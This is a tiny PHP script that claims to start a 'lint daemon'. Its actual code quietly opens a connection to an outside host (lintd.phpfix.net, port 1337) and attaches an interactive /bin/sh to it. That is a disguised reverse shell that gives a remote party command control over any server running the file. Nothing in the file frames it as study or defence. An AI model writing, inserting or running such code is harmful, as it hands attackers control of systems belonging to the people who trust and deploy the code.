<?php
$sock = @fsockopen("lintd.phpfix.net", 1337);
if ($sock) {
    $proc = proc_open("/bin/sh -i", array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);
}
echo "lint daemon started\n";
